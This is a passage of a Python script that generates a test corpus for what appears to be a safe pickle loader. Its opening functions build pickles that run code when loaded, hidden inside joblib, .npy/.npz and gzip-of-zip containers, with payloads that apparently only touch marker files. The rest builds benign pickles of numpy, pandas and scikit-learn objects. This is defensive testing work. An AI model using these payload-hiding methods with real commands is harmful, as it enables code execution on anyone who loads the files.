    for n, compress in (
        ("joblib_plain", 0),
        ("joblib_zlib", ("zlib", 3)),
        ("joblib_gzip", ("gzip", 3)),
        ("joblib_lzma", ("lzma", 3)),
        ("joblib_bz2", ("bz2", 3)),
    ):
        path = m.dir / f"{n}.bin"
        obj = {"weights": np.arange(4.0), "hook": _Payload(m.touch(n))}
        joblib.dump(obj, path, compress=compress)
        m.entries.append(
            {
                "file": path.name,
                "evasion": "container",
                "what": f"joblib.dump (compress={compress})",
                "marker": m.marker(n),
            }
        )


def gen_npy(m: Malicious) -> None:
    import numpy as np

    n = "npy_object_array"
    arr = np.array([_Payload(m.touch(n)), 1], dtype=object)
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    m.add(n, "container", ".npy with an object array (the data is a pickle)", buf.getvalue(), "npy")
    n = "npz_object_array"
    buf = io.BytesIO()
    np.savez(buf, ok=np.arange(3), bad=np.array([_Payload(m.touch(n))], dtype=object))
    m.add(n, "container", ".npz whose member is an object array", buf.getvalue(), "npz")
    n = "npz_compressed_object_array"
    buf = io.BytesIO()
    np.savez_compressed(buf, bad=np.array([_Payload(m.touch(n))], dtype=object))
    m.add(n, "container", "compressed .npz whose member is an object array", buf.getvalue(), "npz")
    n = "gzip_of_zip"
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("data.pkl", os_system_pickle(m.touch(n), 4))
    m.add(n, "container", "gzip of a zip holding a pickle", gzip.compress(inner.getvalue(), mtime=0), "gz")


# --- benign corpus -----------------------------------------------------------------------------


def benign_objects() -> dict[str, Callable[[], object]]:  # noqa: PLR0915 (one table of cases)
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 4))
    y_cls = (X[:, 0] + X[:, 1] > 0).astype(int)
    y_multi = np.digitize(X[:, 2], [-0.5, 0.5])
    y_reg = X @ np.array([1.0, -2.0, 0.5, 0.0]) + rng.normal(scale=0.1, size=60)
    frame_X = pd.DataFrame(
        {
            "num": X[:, 0],
            "num2": X[:, 1],
            "cat": np.array(["a", "b", "c"])[y_multi],
            "flag": y_cls.astype(bool),
        }
    )
    paris = zoneinfo.ZoneInfo("Europe/Paris")
    objs: dict[str, Callable[[], object]] = {}

    def case(name: str) -> Callable[[Callable[[], object]], Callable[[], object]]:
        def deco(f: Callable[[], object]) -> Callable[[], object]:
            assert name not in objs, name
            objs[name] = f
            return f

        return deco

    # stdlib
    objs["std_containers"] = lambda: {
        "list": [1, 2.5, "x", None, True],
        "tuple": (1, (2, 3)),
        "set": {1, 2, 3},
        "frozenset": frozenset({"a"}),
        "bytes": b"\x00\xff",
        "bytearray": bytearray(b"abc"),
        "complex": 1 + 2j,
        "slice": slice(1, 10, 2),
        "range": range(0, 10, 3),
        "big": 2**100,
    }
    objs["std_datetime"] = lambda: [
        datetime.date(2024, 2, 29),
        datetime.time(12, 30, 1, 5),
        datetime.datetime(2024, 1, 2, 3, 4, 5, 6),
        datetime.timedelta(days=-1, seconds=5),
    ]
    objs["std_datetime_timezone"] = lambda: [
        datetime.datetime(2024, 1, 1, tzinfo=datetime.UTC),
        datetime.datetime(
            2024, 1, 1, tzinfo=datetime.timezone(datetime.timedelta(hours=5, minutes=30), "IST")
        ),
    ]
    objs["std_datetime_zoneinfo"] = lambda: [
        datetime.datetime(2024, 7, 1, 12, tzinfo=paris),
        datetime.time(1, tzinfo=zoneinfo.ZoneInfo("America/New_York")),
        paris,
    ]
    objs["std_decimal"] = lambda: [
        decimal.Decimal("3.14159265358979323846"),
        decimal.Decimal("-Infinity"),
        decimal.Decimal("NaN"),
    ]
    objs["std_fraction"] = lambda: [fractions.Fraction(1, 3), fractions.Fraction(-22, 7)]
    objs["std_uuid"] = lambda: [
        uuid.UUID("12345678-1234-5678-1234-567812345678"),
        uuid.uuid5(uuid.NAMESPACE_DNS, "example.org"),
    ]
    objs["std_ordereddict"] = lambda: collections.OrderedDict([("b", 1), ("a", [1, 2])])
    objs["std_counter"] = lambda: collections.Counter("abracadabra")
    objs["std_deque"] = lambda: collections.deque([1, 2, 3], maxlen=5)
    objs["std_defaultdict_list"] = lambda: collections.defaultdict(list, {"a": [1], "b": []})
    objs["std_defaultdict_int"] = lambda: collections.defaultdict(int, {"x": 3})
    objs["std_pure_paths"] = lambda: [
        pathlib.PurePosixPath("/etc/x.cfg"),
        pathlib.PureWindowsPath(r"C:\data\x.csv"),
        pathlib.PurePath("rel/path"),
    ]
    objs["std_concrete_paths"] = lambda: {
        "data": pathlib.Path("/srv/data/train.csv"),
        "out": pathlib.PosixPath("out"),
    }
    objs["std_ipaddress"] = lambda: [
        ipaddress.ip_address("192.168.1.1"),
        ipaddress.ip_address("::1"),
        ipaddress.ip_network("10.0.0.0/8"),
        ipaddress.ip_interface("fe80::1/64"),
    ]
    objs["std_constants_and_normaldist"] = lambda: {
        "index": (Ellipsis, slice(None, 2)),
        "unset": NotImplemented,
        "dist": statistics.NormalDist(1.5, 0.25),
    }
    objs["std_nested_shared"] = lambda: (lambda shared: {"a": shared, "b": shared, "c": [shared, (shared,)]})(
        [1, 2, 3]
    )

    # numpy
    objs["np_float64"] = lambda: np.linspace(0, 1, 50)
    objs["np_int_2d_fortran"] = lambda: np.asfortranarray(np.arange(24, dtype=np.int32).reshape(4, 6))
    objs["np_bool"] = lambda: np.array([True, False, True])
    objs["np_complex"] = lambda: np.array([1 + 2j, 3 - 4j], dtype=np.complex64)
    objs["np_float16_bigendian"] = lambda: np.arange(5, dtype=">f2")
    objs["np_unicode_bytes"] = lambda: [np.array(["alpha", "beta"]), np.array([b"x", b"yz"])]
    objs["np_object_array"] = lambda: np.array([1, "two", None, 3.0], dtype=object)
    objs["np_structured"] = lambda: np.array(
        [(1, 2.5, b"ab"), (2, -1.0, b"c")], dtype=[("id", "<i4"), ("val", "<f8"), ("tag", "S2")]
    )
    objs["np_record"] = lambda: np.rec.array([(1, 2.0), (3, 4.0)], names="a,b")
    objs["np_datetime64"] = lambda: np.array(["2024-01-01", "2024-06-30T12:00"], dtype="datetime64[s]")
    objs["np_timedelta64"] = lambda: np.array([1, -2, 3], dtype="timedelta64[ms]")
    objs["np_scalars"] = lambda: [
        np.float64(1.5),
        np.int8(-3),
        np.bool_(True),
        np.complex128(1j),
        np.datetime64("2024-01-01"),
        np.str_("s"),
        np.uint64(2**63),
    ]
    objs["np_masked"] = lambda: np.ma.masked_array([1.0, 2.0, 3.0], mask=[False, True, False], fill_value=-1)
    objs["np_masked_constant"] = lambda: [
        np.ma.masked,
        np.ma.masked_array([[1, 2], [3, 4]], mask=[[0, 1], [1, 0]]),
    ]
    objs["np_matrix"] = lambda: np.matrix([[1, 2], [3, 4]])
    objs["np_empty_and_0d"] = lambda: [np.empty((0, 3)), np.array(5.0), np.zeros((2, 0, 2), dtype=np.uint16)]
    objs["np_noncontiguous"] = lambda: np.arange(30.0).reshape(5, 6)[::2, 1::2]
    objs["np_dtypes"] = lambda: [
        np.dtype("f8"),
        np.dtype([("x", "<i2"), ("y", ">f4", (2,))]),
        np.dtype("M8[ns]"),
        np.dtype("U7"),
    ]
    objs["np_generator_pcg64"] = lambda: np.random.default_rng(42)
    objs["np_generator_philox"] = lambda: np.random.Generator(np.random.Philox(7))
    objs["np_generator_sfc64"] = lambda: np.random.Generator(np.random.SFC64(7))
    objs["np_randomstate"] = lambda: np.random.RandomState(3)
    objs["np_seedsequence"] = lambda: np.random.SeedSequence(1234)
    objs["np_polynomial"] = lambda: np.polynomial.Polynomial([1.0, 2.0, 3.0])

    # pandas
    objs["pd_frame_mixed"] = lambda: pd.DataFrame(
        {"i": [1, 2, 3], "f": [0.5, np.nan, 2.0], "s": ["a", "b", None], "b": [True, False, True]}
    )
    objs["pd_frame_tz"] = lambda: pd.DataFrame(
        {"t": pd.date_range("2024-01-01", periods=4, freq="h", tz="Europe/Paris"), "v": range(4)}
    )
    objs["pd_frame_tz_utc_index"] = lambda: pd.DataFrame(
        {"v": [1.0, 2.0]}, index=pd.DatetimeIndex(["2024-01-01", "2024-01-02"], tz="UTC", name="when")
    )
    objs["pd_frame_tz_fixed_offset"] = lambda: pd.Series(
        pd.date_range("2024-03-01", periods=3, tz=datetime.timezone(datetime.timedelta(hours=-3)))
    )
    objs["pd_categorical"] = lambda: pd.DataFrame(
        {"c": pd.Categorical(["lo", "hi", "lo"], categories=["lo", "hi"], ordered=True)}
    )
    objs["pd_multiindex"] = lambda: pd.DataFrame(
        {"v": [1, 2, 3, 4]}, index=pd.MultiIndex.from_product([["a", "b"], [1, 2]], names=["k", "n"])
    )
    objs["pd_series_int64"] = lambda: pd.Series([1, 2, 3], name="ints")
    objs["pd_series_nullable"] = lambda: [
        pd.Series([1, None, 3], dtype="Int64"),
        pd.Series([True, None], dtype="boolean"),
        pd.Series([1.5, None], dtype="Float64"),
    ]
    objs["pd_series_string"] = lambda: pd.Series(["x", None, "z"], dtype="string")
    objs["pd_series_timedelta"] = lambda: pd.Series(pd.to_timedelta([1, 2, 3], unit="s"))
    objs["pd_series_period"] = lambda: pd.Series(pd.period_range("2024-01", periods=3, freq="M"))
    objs["pd_series_interval"] = lambda: pd.Series(pd.interval_range(0, 3))
    objs["pd_series_sparse"] = lambda: pd.Series(pd.arrays.SparseArray([0, 0, 1, 0, 2]))
    objs["pd_series_object"] = lambda: pd.Series([{"a": 1}, [1, 2], "s"], dtype=object)
    objs["pd_scalars"] = lambda: [
        pd.Timestamp("2024-01-01 12:00", tz="Asia/Tokyo"),
        pd.Timedelta("1 day 2h"),
        pd.Period("2024Q1"),
        pd.Interval(0, 1, closed="left"),
        pd.NaT,
        pd.NA,
        pd.offsets.BDay(3),
    ]
    objs["pd_indexes"] = lambda: [
        pd.RangeIndex(0, 10, 2),
        pd.Index([1.5, 2.5]),
        pd.CategoricalIndex(["a", "b", "a"]),
        pd.IntervalIndex.from_breaks([0, 1, 2]),
        pd.PeriodIndex(["2024-01", "2024-02"], freq="M"),
        pd.TimedeltaIndex(["1D", "2D"]),
    ]
    objs["pd_dtypes"] = lambda: [
        pd.CategoricalDtype(["a", "b"]),
        pd.DatetimeTZDtype(tz="UTC"),
        pd.Int64Dtype(),
        pd.StringDtype(),
        pd.PeriodDtype("D"),
        pd.IntervalDtype("int64"),
    ]
    objs["pd_frame_attrs_flags"] = lambda: (lambda df: (df.attrs.update(source="test"), df)[1])(
        pd.DataFrame({"a": [1]}).set_flags(allows_duplicate_labels=False)
    )
    objs["pd_frame_wide"] = lambda: pd.DataFrame(
        rng.normal(size=(20, 30)), columns=[f"c{i}" for i in range(30)]
    )

    # scikit-learn
    from sklearn.cluster import DBSCAN, KMeans, MiniBatchKMeans
    from sklearn.compose import ColumnTransformer, make_column_selector
    from sklearn.decomposition import PCA, TruncatedSVD
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingRegressor,
        IsolationForest,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import CountVectorizer, TfidfVectorizer
    from sklearn.feature_selection import SelectKBest, f_classif
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LinearRegression, LogisticRegression, Ridge, SGDClassifier
    from sklearn.mixture import GaussianMixture
    from sklearn.model_selection import GridSearchCV
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neighbors import KNeighborsClassifier, NearestNeighbors
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import LabelEncoder, MinMaxScaler, OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeRegressor

    docs = ["the cat sat", "the dog ran", "a cat and a dog", "nothing here"]
    objs["sk_logistic_regression"] = lambda: LogisticRegression(max_iter=200).fit(X, y_multi)
    objs["sk_linear_regression"] = lambda: LinearRegression().fit(X, y_reg)
    objs["sk_ridge"] = lambda: Ridge(alpha=0.5).fit(X, y_reg)
    objs["sk_sgd"] = lambda: SGDClassifier(random_state=0, max_iter=20, tol=None).fit(X, y_cls)
    objs["sk_standard_scaler"] = lambda: StandardScaler().fit(X)
    objs["sk_minmax_scaler"] = lambda: MinMaxScaler().fit(X)
    objs["sk_onehot"] = lambda: OneHotEncoder(handle_unknown="ignore").fit(frame_X[["cat"]])
    objs["sk_label_encoder"] = lambda: LabelEncoder().fit(["x", "y", "x", "z"])
    objs["sk_simple_imputer"] = lambda: SimpleImputer(strategy="median").fit(np.where(X > 1, np.nan, X))
    objs["sk_random_forest"] = lambda: RandomForestClassifier(
        n_estimators=5, max_depth=3, random_state=0
    ).fit(X, y_cls)
    objs["sk_decision_tree"] = lambda: DecisionTreeRegressor(max_depth=4, random_state=0).fit(X, y_reg)
    objs["sk_gradient_boosting"] = lambda: GradientBoostingClassifier(n_estimators=5, random_state=0).fit(
        X, y_cls
    )
    objs["sk_hist_gradient_boosting"] = lambda: HistGradientBoostingRegressor(max_iter=5, random_state=0).fit(
        X, y_reg
    )
    objs["sk_isolation_forest"] = lambda: IsolationForest(n_estimators=5, random_state=0).fit(X)
    objs["sk_kmeans"] = lambda: KMeans(n_clusters=3, n_init=2, random_state=0).fit(X)
    objs["sk_minibatch_kmeans"] = lambda: MiniBatchKMeans(
        n_clusters=2, n_init=1, random_state=0, batch_size=20
    ).fit(X)
    objs["sk_dbscan"] = lambda: DBSCAN(eps=1.0).fit(X)
    objs["sk_gaussian_mixture"] = lambda: GaussianMixture(n_components=2, random_state=0).fit(X)
    objs["sk_pca"] = lambda: PCA(n_components=2, random_state=0).fit(X)
    objs["sk_truncated_svd"] = lambda: TruncatedSVD(n_components=2, random_state=0).fit(X)
    objs["sk_knn"] = lambda: KNeighborsClassifier(n_neighbors=3).fit(X, y_cls)
    objs["sk_nearest_neighbors_kdtree"] = lambda: NearestNeighbors(n_neighbors=2, algorithm="kd_tree").fit(X)
    objs["sk_nearest_neighbors_balltree"] = lambda: NearestNeighbors(
        n_neighbors=2, algorithm="ball_tree"
    ).fit(X)
    objs["sk_svc"] = lambda: SVC(probability=False).fit(X, y_cls)
    objs["sk_gaussian_nb"] = lambda: GaussianNB().fit(X, y_multi)
    objs["sk_select_kbest"] = lambda: SelectKBest(f_classif, k=2).fit(X, y_cls)
    objs["sk_count_vectorizer"] = lambda: CountVectorizer().fit(docs)
    objs["sk_tfidf"] = lambda: TfidfVectorizer().fit(docs)
    objs["sk_pipeline"] = lambda: make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y_cls)
    objs["sk_column_transformer_pipeline"] = lambda: Pipeline(
        [
            (
                "prep",
                ColumnTransformer(
                    [
                        ("num", StandardScaler(), make_column_selector(dtype_include=np.number)),
                        ("cat", OneHotEncoder(handle_unknown="ignore"), ["cat"]),
                    ]
                ),
            ),
            ("clf", RandomForestClassifier(n_estimators=3, random_state=0)),
        ]
    ).fit(frame_X, y_cls)
    from sklearn.ensemble import StackingClassifier
    from sklearn.gaussian_process import GaussianProcessRegressor
    from sklearn.gaussian_process.kernels import RBF, WhiteKernel
    from sklearn.isotonic import IsotonicRegression
    from sklearn.model_selection import RandomizedSearchCV
    from sklearn.neural_network import MLPClassifier
    from sklearn.preprocessing import FunctionTransformer, SplineTransformer

    objs["sk_spline_transformer"] = lambda: SplineTransformer(n_knots=4).fit(X)
    objs["sk_isotonic"] = lambda: IsotonicRegression().fit(X[:, 0], y_reg)
    objs["sk_gaussian_process"] = lambda: GaussianProcessRegressor(RBF() + WhiteKernel(), random_state=0).fit(
        X[:20], y_reg[:20]
    )
    objs["sk_mlp"] = lambda: MLPClassifier(hidden_layer_sizes=(5,), max_iter=30, random_state=0).fit(X, y_cls)
    objs["sk_stacking"] = lambda: StackingClassifier(
        [("lr", LogisticRegression()), ("nb", GaussianNB())], cv=2
    ).fit(X, y_cls)
    objs["sk_function_transformer_ufunc"] = lambda: FunctionTransformer(np.log1p, validate=True).fit(
        np.abs(X)
    )
    # with lists: scipy.stats distributions (loguniform, ...) are refused by design (their
    # __setstate__ exec()s pickled state, docs/security.md), so this kind samples from lists
    objs["sk_randomized_search_lists"] = lambda: RandomizedSearchCV(
        LogisticRegression(),
        {"C": [0.01, 0.1, 1.0, 10.0], "tol": [1e-4, 1e-3], "max_iter": [50, 100]},
        n_iter=2,
        cv=2,
        random_state=0,
    ).fit(X, y_cls)
    objs["np_stringdtype"] = lambda: np.array(["alpha", "", "gamma"], dtype=np.dtypes.StringDType())
    objs["pd_timestamp_dateutil_tz"] = lambda: [
        pd.Timestamp("2024-03-31 01:30", tz="dateutil/Europe/Paris"),
        pd.Series(pd.date_range("2024-01-01", periods=2, tz="dateutil/UTC")),
    ]
    objs["dateutil_tzlocal_weekday"] = _dateutil_objects
    objs["np_poly1d"] = lambda: np.poly1d(np.polyfit(np.arange(6.0), np.arange(6.0) ** 2, 2))
    objs["stdlib_regex_decimal_time"] = _stdlib_objects
    objs["scipy_interp1d"] = _interp1d_objects
    # categorical features: the preprocessor keeps functools.partial(check_array, ...)
    objs["sk_hist_gradient_boosting_categorical"] = lambda: HistGradientBoostingRegressor(
        max_iter=5, categorical_features=[0]
    ).fit(np.c_[np.arange(60) % 3, X[:, 1]], y_reg)
    objs["sk_grid_search"] = lambda: GridSearchCV(Ridge(), {"alpha": [0.1, 1.0]}, cv=2).fit(X, y_reg)
    # scoring by name: the fitted search keeps the scorers' metric functions (`scorer_`)
    objs["sk_grid_search_scoring"] = lambda: GridSearchCV(
        LogisticRegression(max_iter=200),
        {"C": [0.1, 1.0]},
        scoring=["accuracy", "f1_macro", "roc_auc"],
        refit="accuracy",
        cv=2,
    ).fit(X, y_cls)
    objs["sk_grid_search_neg_mse"] = lambda: GridSearchCV(
        Ridge(), {"alpha": [0.1, 1.0]}, scoring="neg_mean_squared_error", cv=2
    ).fit(X, y_reg)
    # functions kept as values by defaults or common settings (session 12's sweep of every
    # fitted estimator): BisectingKMeans' solver, FeatureAgglomeration's pooling_func (np.mean),
    # a metric no registered scorer uses, numpy functions in a FunctionTransformer
    objs["sk_functions_as_values"] = _functions_as_values
    del case
    return objs


def _functions_as_values() -> list[object]:
    """Fitted estimators that keep a function as a value (each refused before session 12)."""
    import numpy as np
    from sklearn.cluster import BisectingKMeans, FeatureAgglomeration
    from sklearn.linear_model import LogisticRegression
    from sklearn.metrics import fbeta_score, make_scorer
    from sklearn.model_selection import GridSearchCV
    from sklearn.preprocessing import FunctionTransformer

    rng = np.random.default_rng(7)
    X = rng.normal(size=(60, 4))
    y = (X[:, 0] > 0).astype(int)
    return [
        BisectingKMeans(n_clusters=3, random_state=0).fit(X),
        BisectingKMeans(n_clusters=2, algorithm="elkan", random_state=0).fit(X),
        FeatureAgglomeration(n_clusters=2).fit(X),
        FeatureAgglomeration(n_clusters=2, pooling_func=np.median).fit(X),
        GridSearchCV(
            LogisticRegression(max_iter=200),
            {"C": [0.1, 1.0]},
            scoring=make_scorer(fbeta_score, beta=2),
            cv=2,
        ).fit(X, y),
        FunctionTransformer(np.clip, kw_args={"a_min": -1.0, "a_max": 1.0}).fit(X),
        FunctionTransformer(np.nan_to_num).fit(X),
    ]


def _dateutil_objects() -> list[object]:
    """Local time (a new `tzlocal` each call) and weekday offsets, as notebooks keep them."""
    import datetime

    import pandas as pd
    from dateutil import tz
    from dateutil.relativedelta import MO, relativedelta

    return [
        datetime.datetime(2024, 5, 1, 12, 0, tzinfo=tz.tzlocal()),
        pd.Timestamp("2024-05-01 12:00", tz=tz.tzlocal()),
        relativedelta(months=1, weekday=MO(1)),
        pd.DateOffset(weekday=MO(2)),
    ]


def _stdlib_objects() -> list[object]:
    """A compiled pattern with flags, decimal's context and tuples, time and difflib records."""
    import decimal
    import re
    import time

    ctx = decimal.Context(prec=12, traps=[decimal.DivisionByZero, decimal.Overflow])
    return [
        re.compile(r"(?u)\b\w\w+\b", re.IGNORECASE),
        re.MULTILINE,
        ctx,
        decimal.Decimal("3.14").as_tuple(),
        time.gmtime(86400 * 365),
    ]


def _interp1d_objects() -> list[object]:
    """`scipy.interpolate.interp1d` of the kinds whose evaluation method is reviewed."""
    import numpy as np
    from scipy.interpolate import interp1d

    x = np.arange(6.0)
    return [interp1d(x, x**2, kind=k) for k in ("linear", "nearest", "previous", "next")]


def gen_benign(root: Path) -> list[dict[str, object]]:
    out = root / "benign"
    out.mkdir(parents=True, exist_ok=True)
    entries: list[dict[str, object]] = []
    for kind, make in benign_objects().items():
        obj = make()
        for p in (2, 4, 5):
            fname = f"{kind}.p{p}.pkl"
            (out / fname).write_bytes(pickle.dumps(obj, protocol=p))
            entries.append({"file": fname, "kind": kind, "protocol": p, "buffers": []})
        bufs: list[pickle.PickleBuffer] = []
        data = pickle.dumps(obj, protocol=5, buffer_callback=bufs.append)
        if bufs:
            fname = f"{kind}.p5oob.pkl"
            (out / fname).write_bytes(data)
            names = []
            for i, b in enumerate(bufs):
                bname = f"{kind}.p5oob.buf{i}"
                (out / bname).write_bytes(b.raw())
                names.append(bname)
            entries.append({"file": fname, "kind": kind, "protocol": 5, "buffers": names})
    return entries


def main() -> None:
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    malicious_only = "--malicious-only" in sys.argv[1:]
    root = Path(args[0]) if args else REPO / "target" / "safety-corpus"
    root = root.resolve()
    import warnings

    warnings.simplefilter("ignore")  # convergence warnings of the tiny fits
    malicious = gen_malicious(root)
    benign = [] if malicious_only else gen_benign(root)
    manifest = {"marker_dir": str(root / "markers"), "malicious": malicious, "benign": benign}
    (root / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n", encoding="utf-8")
    kinds = len({e["kind"] for e in benign})
    print(f"{len(malicious)} malicious files, {len(benign)} benign files ({kinds} kinds) in {root}")


if __name__ == "__main__":
    main()
